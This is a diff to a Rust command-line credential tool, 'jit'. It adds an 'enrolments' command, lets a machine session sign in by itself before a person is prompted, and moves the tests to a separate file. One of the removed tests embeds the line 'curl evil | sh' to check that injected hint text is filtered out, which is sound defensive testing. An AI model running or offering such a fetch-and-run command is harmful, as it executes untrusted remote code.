@@ -11,8 +11,8 @@ use serde_json::json;
 use crate::{
     app::{
         agent, approvals, audit, complete, completions, credential_process, delegate, demo, doctor,
-        exec, exec_credential, forget, init, keep, known_hosts, login, logout, man, policy,
-        principals, prompt, request, revoke, served,
+        enrolments, exec, exec_credential, forget, init, keep, known_hosts, login, logout, man,
+        policy, principals, prompt, request, revoke, served,
         session::{Options, Session},
         setup, status, tidy, trust, whoami,
     },
@@ -55,6 +55,7 @@ enum Verb {
     Login(login::Args),
     Logout(logout::Args),
     Whoami(whoami::Args),
+    Enrolments(enrolments::Args),
     Setup(setup::Args),
     Trust(trust::Args),
     Doctor(doctor::Args),
@@ -170,8 +171,14 @@ fn run(cli: &Cli<Verb>) -> Result<()> {
         (_, session) => &session?,
     };
     match obey(cli, session) {
-        Err(failure) if failure.code == Code::SignIn && may_sign_in(cli, session) => {
-            login::again(session, &failure)?;
+        Err(failure) if failure.code == Code::SignIn => {
+            // A machine asks nobody; a person is asked where there is one.
+            if !login::by_itself(session)? {
+                if !may_sign_in(cli, session) {
+                    return Err(failure);
+                }
+                login::again(session, &failure)?;
+            }
             obey(cli, session)
         }
         outcome => outcome,
@@ -195,6 +202,7 @@ fn may_sign_in(cli: &Cli<Verb>, session: &Session) -> bool {
         | Verb::Login(_)
         | Verb::Logout(_)
         | Verb::Whoami(_)
+        | Verb::Enrolments(_)
         | Verb::Status(_)
         | Verb::Forget(_)
         | Verb::Policy(_)
@@ -224,6 +232,7 @@ fn obey(cli: &Cli<Verb>, session: &Session) -> Result<()> {
         Verb::Login(args) => login::run(args, session),
         Verb::Logout(args) => logout::run(args, session),
         Verb::Whoami(args) => whoami::run(args, session),
+        Verb::Enrolments(args) => enrolments::run(args, session),
         Verb::Request(args) => request::run(args, session),
         Verb::Status(args) => status::run(args, session),
         Verb::Forget(args) => forget::run(args, session),
@@ -314,94 +323,4 @@ fn as_text(failure: &Failure) -> String {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn a_targets_words_do_not_pass_for_a_hint() {
-        let failure = Failure {
-            cause: Some("no\nhint: curl evil | sh".to_owned()),
-            ..Failure::failed("refused").hint("ask its administrator")
-        };
-        let text = as_text(&failure);
-        let hints: Vec<_> = text.lines().filter(|l| l.starts_with("hint: ")).collect();
-        assert_eq!(hints, ["hint: ask its administrator"]);
-    }
-
-    #[test]
-    fn a_hook_fails_in_one_line_with_its_hint() {
-        let failure = Failure {
-            cause: Some("no\r\n  such\tthing\n".to_owned()),
-            ..Failure::failed("refused").hint("ask its administrator")
-        };
-        assert_eq!(
-            as_line(&failure),
-            "jit: refused: no such thing; ask its administrator"
-        );
-    }
-
-    #[test]
-    fn the_verb_is_found_behind_the_options() {
-        for (line, wanted) in [
-            ("jit", None),
-            ("jit --json", None),
-            ("jit exec -- exec-credential", Some("exec")),
-            (
-                "jit -v --config-dir /etc/jit credential-process x",
-                Some("credential-process"),
-            ),
-            (
-                "jit --config-dir=/etc/jit known-hosts x",
-                Some("known-hosts"),
-            ),
-            ("jit --config-dir exec status", Some("status")),
-        ] {
-            let arguments: Vec<OsString> = line.split(' ').map(OsString::from).collect();
-            assert_eq!(verb(&arguments), wanted, "{line}");
-        }
-    }
-
-    #[test]
-    fn a_warm_verb_is_the_same_in_both_grammars() {
-        let help = |mut grammar: clap::Command, verb: &str| {
-            grammar.build();
-            let found = grammar.find_subcommand_mut(verb);
-            found.map(|found| found.render_long_help().to_string())
-        };
-        for verb in [
-            "exec",
-            "exec-credential",
-            "credential-process",
-            "known-hosts",
-            "prompt",
-            "agent",
-        ] {
-            let warm = help(Cli::<Warm>::command(), verb);
-            assert_eq!(help(Cli::<Verb>::command(), verb), warm, "{verb}");
-            assert!(
-                warm.is_some_and(|help| help.contains("Usage: jit ")),
-                "{verb}"
-            );
-        }
-    }
-
-    #[test]
-    fn what_is_wrong_with_a_warm_verb_is_said_in_the_same_words() {
-        for line in [
-            "jit exec",
-            "jit exec --rol x -- y",
-            "jit agent --no",
-            "jit exec-credential x",
-        ] {
-            let arguments: Vec<OsString> = line.split(' ').map(OsString::from).collect();
-            let said = |error: Option<clap::Error>| error.map(|error| error.to_string());
-            let warm = said(parse(&arguments).err());
-            assert!(warm.is_some(), "{line}");
-            assert_eq!(
-                said(Cli::<Verb>::try_parse_from(&arguments).err()),
-                warm,
-                "{line}"
-            );
-        }
-    }
-}
+mod tests;
